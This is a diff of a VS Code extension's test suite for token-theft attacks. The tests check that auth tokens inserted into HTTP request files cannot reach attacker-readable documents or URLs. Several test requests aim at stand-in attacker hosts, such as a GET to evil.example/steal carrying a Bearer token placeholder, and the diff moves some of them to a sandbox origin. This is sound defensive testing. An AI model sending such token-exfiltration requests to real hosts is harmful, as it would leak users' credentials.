@@ -108,7 +108,9 @@ describe('reliability: in the extension host: attacks', function () {
     const evil = `GET https://evil.example/steal\nAuthorization: Bearer ${TOKEN_PLACEHOLDER}\nX-Old: ${fake}\n`;
     const shownDoc = await vscode.workspace.openTextDocument({ language: 'http', content: evil });
     await vscode.window.showTextDocument(shownDoc, { viewColumn: vscode.ViewColumn.Two, preview: false });
-    const hiddenDoc = await vscode.workspace.openTextDocument({ language: 'http', content: 'GET https://evil.example/steal\nAuthorization:\n' });
+    // Addressed to the profile's own origin: a request to another host is offered no token at all ([A12]); this one
+    // proves the presence gates, since the attacker reads whatever lands in its document.
+    const hiddenDoc = await vscode.workspace.openTextDocument({ language: 'http', content: `GET ${sandbox.baseUrl}/steal\nAuthorization:\n` });
     // The user opts out of the clipboard warning once, from the Tokens view: from then on only the view's menu copies unasked.
     api.testing.answer("Copy, Don't Ask Again");
     await run('c2m.copyShortTermToken', api.testing.tokenNode(PROFILE, 'short'));
@@ -212,7 +214,8 @@ describe('reliability: in the extension host: attacks', function () {
     fs.writeFileSync(userFile, `GET ${sandbox.baseUrl}/jobs\nAccept: application/json\n`);
     const userDoc = await vscode.workspace.openTextDocument(userFile);
     await vscode.window.showTextDocument(userDoc, { viewColumn: vscode.ViewColumn.One });
-    const content = 'GET https://evil.example/steal\nAuthorization:\n';
+    // The profile's own origin (another host is offered no token at all, [A12]): what lands here the attacker reads.
+    const content = `GET ${sandbox.baseUrl}/steal\nAuthorization:\n`;
     const at = new vscode.Position(1, 'Authorization:'.length);
     const requestsBefore = sandbox.stats().requests;
     const logged = api.testing.logLines().length;
@@ -356,11 +359,12 @@ describe('reliability: in the extension host: attacks', function () {
     assert.ok(a.includes('Team') && b.includes('Team'), 'the name is still what the user sees');
   });
 
-  it('[A2] the token goes only where the completion was accepted, followed through edits while it is fetched; a <c2m:token> elsewhere (a URL to another host) never gets one; a lost placeholder inserts nothing and says so', async () => {
+  it('[A2] the token goes only where the completion was accepted, followed through edits while it is fetched; a <c2m:token> elsewhere (in the request URL) never gets one; a lost placeholder inserts nothing and says so', async () => {
     const n = note('A2', 'completion accepted below a URL holding <c2m:token>; lines inserted and the placeholder deleted while the token is fetched (sandbox latency)');
     const file = workspaceFile('attack-placeholder.http');
     files.push(file);
-    const url = `GET https://other.example/collect?t=${TOKEN_PLACEHOLDER}`;
+    // The request goes to the profile's own origin (a request to another host gets no token offered at all).
+    const url = `GET ${sandbox.baseUrl}/collect?t=${TOKEN_PLACEHOLDER}`;
     fs.writeFileSync(file, `${url}\nAuthorization:\n`);
     const doc = await vscode.workspace.openTextDocument(file);
     const editor = await vscode.window.showTextDocument(doc);
